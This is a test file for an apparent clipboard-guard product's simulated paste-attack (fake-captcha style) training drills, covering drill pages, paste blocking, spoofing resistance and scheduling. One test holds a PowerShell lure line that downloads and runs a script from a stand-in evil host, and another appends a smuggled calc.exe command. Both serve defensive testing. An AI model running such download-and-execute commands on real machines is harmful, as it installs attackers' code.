"""Lure drills with the guard's real decisions: the page, the recognised copy, the stopped
paste, the "this was a drill" page, and why a real page cannot borrow a drill's text."""

from __future__ import annotations

import datetime as dt
import html
import http.client
from collections.abc import Iterator

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.drills.coordinator import DrillCoordinator
from app.drills.pages import _script_string
from app.drills.policy import TrainingPolicy
from app.drills.schedule import DrillSchedule, slot, style_for
from app.drills.styles import MARKER, STYLES
from app.guard.keys import PasteSequence
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService
from app.platform.base import KeyEvent, WindowInfo
from tests.app.guard.test_service import (
    FakeClassifier,
    FakeHolder,
    FakeStore,
    FakeUI,
)

CTRL_V = KeyEvent("v", True, frozenset({"ctrl"}), 0.0)
RUN_BOX = WindowInfo("explorer.exe", "#32770", "Run")


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def setup() -> Iterator[tuple[DrillCoordinator, FakeStore, list[str], Clock]]:
    store, opened, clock = FakeStore(), [], Clock()
    drills = DrillCoordinator(store, opened.append, clock=clock)
    try:
        yield drills, store, opened, clock
    finally:
        drills.stop()


def get(drills: DrillCoordinator, path: str, host: str | None = None) -> tuple[int, str]:
    conn = http.client.HTTPConnection("127.0.0.1", drills.server.port, timeout=5)
    try:
        conn.request("GET", path, headers={"Host": host or f"127.0.0.1:{drills.server.port}"})
        response = conn.getresponse()
        if response.status == 200:  # no other site may frame or read a drill page
            assert response.getheader("X-Frame-Options") == "DENY"
            assert "frame-ancestors 'none'" in (response.getheader("Content-Security-Policy") or "")
            assert response.getheader("Access-Control-Allow-Origin") is None
        return response.status, response.read().decode()
    finally:
        conn.close()


_ENGINE: list[Engine] = []


def shared_engine() -> Engine:
    if not _ENGINE:
        _ENGINE.append(Engine(strict=True))
    return _ENGINE[0]


def guard(
    drills: DrillCoordinator, store: FakeStore, target: PasteTarget, **kw: object
) -> tuple[GuardService, FakeUI]:
    ui = FakeUI()
    service = GuardService(
        shared_engine(), store, ui, PasteSequence(strict=True), FakeClassifier(target), lambda: RUN_BOX,
        drills=drills, **kw,  # type: ignore[arg-type]
    )  # fmt: skip
    return service, ui


def outcomes(store: FakeStore) -> list[str]:
    return [
        e.details["outcome"]
        for e in store.events
        if e.kind.startswith("drill_") and "outcome" in e.details
    ]


@pytest.mark.parametrize("style", sorted(STYLES))
def test_a_drill_from_page_to_stop_on_a_system_that_swallows_keys(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock], style: str
) -> None:
    drills, store, opened, _ = setup
    drill = drills.start(style, campaign="2026-q4")
    assert opened == [drills.url(drill)]
    status, page = get(drills, f"/drill/{drill.id}")
    assert status == 200 and STYLES[style].button in html.unescape(page)
    assert _script_string(drill.command) in page  # the inert command, as the page copies it
    assert get(drills, f"/drill/{drill.id}/result")[0] == 404  # nothing to explain yet
    service, ui = guard(drills, store, STYLES[style].target, can_suppress_keys=True)
    service.clipboard_changed(
        ClipboardChange(drill.command, Provenance(source_url=drills.url(drill)))
    )
    service.process_pending()
    assert service.current is not None and service.current.drill == drill.id
    assert service.on_key(CTRL_V) is True  # the paste never reaches the Run dialog / terminal
    service.process_pending()
    assert ui.warnings == []  # the drill page explains, not the warning
    assert outcomes(store) == ["started", "opened", "copied", "pasted", "stopped"]
    assert opened[-1] == drills.url(drill, "result")
    status, result = get(drills, f"/drill/{drill.id}/result")
    assert status == 200 and "This was a drill. Nothing was run." in result
    assert all(sign in html.unescape(result) for sign in STYLES[style].signs)
    assert drills.status()[0]["result_shown"] is True
    # a second paste is stopped again, and counted once
    assert service.on_key(CTRL_V) is True
    service.process_pending()
    assert outcomes(store).count("stopped") == 1 and len(opened) == 2
    stopped = next(e for e in store.events if e.kind == "drill_stopped")
    assert stopped.level == "info" and stopped.details["campaign"] == "2026-q4"
    assert stopped.text is None and stopped.sha256 is None  # nothing of the clipboard kept


def test_on_x11_the_held_drill_text_is_refused_to_a_terminal(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    drills, store, opened, _ = setup
    drill = drills.start("fix-error")
    holder = FakeHolder()
    service, ui = guard(drills, store, PasteTarget.TERMINAL, can_suppress_keys=False, holder=holder)
    service.clipboard_changed(
        ClipboardChange(drill.command, Provenance(source_url=drills.url(drill)))
    )
    service.process_pending()
    assert holder.held == [drill.command]
    assert service.requestor_allowed(PasteTarget.TERMINAL) is False
    assert service.requestor_allowed(PasteTarget.OTHER) is True  # an editor still gets it
    service.refused_paste(PasteTarget.TERMINAL, None)
    service.process_pending()
    assert outcomes(store)[-2:] == ["pasted", "stopped"] and ui.warnings == []
    assert opened[-1].endswith("/result")


def test_a_paste_somewhere_harmless_is_no_outcome(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    drills, store, _, _ = setup
    drill = drills.start("fake-captcha")
    service, _ = guard(drills, store, PasteTarget.OTHER, can_suppress_keys=True)
    service.clipboard_changed(
        ClipboardChange(drill.command, Provenance(source_url=drills.url(drill)))
    )
    service.process_pending()
    assert service.on_key(CTRL_V) is False
    service.process_pending()
    assert "pasted" not in outcomes(store)


def test_a_real_page_that_copies_the_drill_text_gets_the_ordinary_verdict(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    drills, store, _, clock = setup
    drill = drills.start("fake-captcha")
    port = drills.server.port
    engine = shared_engine()
    forged = [
        f"https://lure.example/drill/{drill.id}",  # another site
        f"http://127.0.0.1:{port + 1}/drill/{drill.id}",  # another server on this computer
        f"http://localhost:{port}/drill/{drill.id}",  # another name for it
        f"http://127.0.0.1:{port}/drill/0000000000000000",  # another drill's page
        f"http://user@127.0.0.1:{port}/drill/{drill.id}",
        f"https://127.0.0.1:{port}/drill/{drill.id}",
        None,  # no browser label at all
    ]
    for source in forged:
        service, _ = guard(drills, store, PasteTarget.RUN_DIALOG, can_suppress_keys=True)
        service.clipboard_changed(ClipboardChange(drill.command, Provenance(source_url=source)))
        service.process_pending()
        current = service.current
        assert current is not None and current.drill is None, source
        expected = engine.analyze(drill.command, Context(source=source))
        assert current.unaimed.level is expected.level, source  # the no-target verdict
        assert current.unaimed.rule_ids == expected.rule_ids, source
    own = Provenance(source_url=drills.url(drill))
    for text in (
        drill.command + " & calc.exe",  # the drill's words with a payload added
        drill.command.replace(drill.nonce, "0" * 32),  # a guessed nonce
        MARKER + drill.nonce,  # the marker alone
    ):
        assert drills.recognise(text, own) is None, text
    assert "copied" not in outcomes(store)
    assert drills.recognise(drill.command, own) == drill.id
    clock.now += 31 * 60  # a drill does not outlive its half hour
    assert drills.recognise(drill.command, own) is None
    assert get(drills, f"/drill/{drill.id}")[0] == 404


def test_a_drill_never_lowers_a_real_lure(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    drills, store, _, _ = setup
    drill = drills.start("fix-error")
    lure = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex" # ' + MARKER + drill.nonce
    service, _ = guard(drills, store, PasteTarget.TERMINAL, can_suppress_keys=True)
    service.clipboard_changed(ClipboardChange(lure, Provenance(source_url=drills.url(drill))))
    service.process_pending()
    assert service.current is not None and service.current.verdict.level is Level.MALICIOUS
    assert service.current.drill is None and service.current.neutralized


def test_the_pages_answer_only_their_own_host_name(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    drills, store, _, _ = setup
    drill = drills.start("console")
    assert get(drills, f"/drill/{drill.id}", host="evil.example")[0] == 421  # DNS rebinding
    assert get(drills, f"/drill/{drill.id}", host=f"localhost:{drills.server.port}")[0] == 421
    assert get(drills, "/drill/nope")[0] == 404
    assert get(drills, "/")[0] == 404
    assert "opened" not in outcomes(store)
    with pytest.raises(ValueError, match="unknown drill style"):
        drills.start("real-malware")


def test_report_marks_the_newest_drill(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    drills, store, _, _ = setup
    assert drills.report() is None
    drills.start("fake-captcha")
    newest = drills.start("filefix")
    assert drills.report() is newest
    reported = [e for e in store.events if e.kind == "drill_reported"]
    assert len(reported) == 1 and reported[0].details["drill"] == newest.id


# -- the schedule ----------------------------------------------------------------------------

POLICY = TrainingPolicy(
    campaign="2026-q4",
    styles=("fake-captcha", "fix-error"),
    start=dt.date(2026, 12, 7),  # a Monday
    end=dt.date(2026, 12, 18),
    hours=(9, 16),
    weekdays=(0, 1, 2, 3, 4),
    users=("*",),
)


def test_each_person_gets_one_slot_in_the_window_the_same_at_every_start() -> None:
    slots = {slot(POLICY, f"user{i}", "pc") for i in range(200)}
    assert len(slots) > 150  # spread out, not one drill day for everybody
    for moment in slots:
        assert moment is not None
        assert POLICY.start <= moment.date() <= POLICY.end and moment.weekday() < 5
        assert 9 <= moment.hour < 16
    assert slot(POLICY, "alice", "pc") == slot(POLICY, "ALICE", "pc")
    assert style_for(POLICY, "alice", "pc") in POLICY.styles


def test_a_drill_is_due_once_within_hours(tmp_path) -> None:  # type: ignore[no-untyped-def]
    moment = slot(POLICY, "alice", "pc")
    assert moment is not None
    now = [moment - dt.timedelta(minutes=1)]
    schedule = DrillSchedule(POLICY, "alice", "pc", tmp_path, now=lambda: now[0])
    assert schedule.due() is None
    now[0] = moment + dt.timedelta(minutes=1)
    if now[0].hour >= 16:
        now[0] = dt.datetime.combine(moment.date() + dt.timedelta(days=1), dt.time(9))
    while now[0].weekday() >= 5:
        now[0] += dt.timedelta(days=1)
    assert schedule.due() == style_for(POLICY, "alice", "pc")
    schedule.mark_done()
    assert schedule.due() is None
    assert DrillSchedule(POLICY, "alice", "pc", tmp_path, now=lambda: now[0]).due() is None
    now[0] = dt.datetime(2026, 12, 19, 10)  # after the campaign
    assert DrillSchedule(POLICY, "alice", "pc", tmp_path / "b", now=lambda: now[0]).due() is None
    only_bob = DrillSchedule(
        TrainingPolicy(**{**POLICY.__dict__, "users": ("bob",)}), "alice", "pc", tmp_path / "c"
    )
    assert only_bob.slot is None and only_bob.due() is None


def test_where_the_paste_cannot_be_stopped_the_page_does_not_claim_it_was(
    setup: tuple[DrillCoordinator, FakeStore, list[str], Clock],
) -> None:
    """X11 in monitor mode has no clipboard holder and cannot swallow keys."""
    drills, store, opened, _ = setup
    drill = drills.start("fix-error")
    service, _ = guard(drills, store, PasteTarget.TERMINAL, can_suppress_keys=False)
    service.clipboard_changed(
        ClipboardChange(drill.command, Provenance(source_url=drills.url(drill)))
    )
    service.process_pending()
    assert service.on_key(CTRL_V) is False
    service.process_pending()
    assert outcomes(store)[-1] == "pasted" and "stopped" not in outcomes(store)
    assert opened[-1].endswith("/result")
    status, page = get(drills, f"/drill/{drill.id}/result")
    assert status == 200 and "could not stop the paste" in page
    assert "Nothing was run" not in page
